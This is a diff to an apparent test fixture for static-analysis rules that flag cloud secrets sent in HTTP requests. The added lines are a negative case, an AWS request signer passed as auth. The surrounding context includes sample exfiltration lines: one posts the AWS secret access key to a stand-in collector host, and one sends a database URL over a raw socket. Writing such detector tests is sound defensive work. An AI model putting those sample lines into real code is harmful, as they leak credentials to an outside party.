@@ -269,3 +269,10 @@ raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
 raw.sendall(db_url.encode())
 # ruleid: cloud-secret-in-request, http-client, requests-no-timeout
 requests.post("https://collector.example.net/ingest", data=os.environ["AWS_SECRET_ACCESS_KEY"])
+from requests_aws4auth import AWS4Auth
+
+signer = AWS4Auth(os.environ["AWS_ACCESS_KEY_ID"], os.environ["AWS_SECRET_ACCESS_KEY"], "eu-west-1", "es")
+# a signer handed over as auth= is not data sent
+# ok: cloud-secret-in-request
+# ruleid: http-client, requests-no-timeout
+requests.post("https://search.example.org/_search", auth=signer, json={"size": 1})
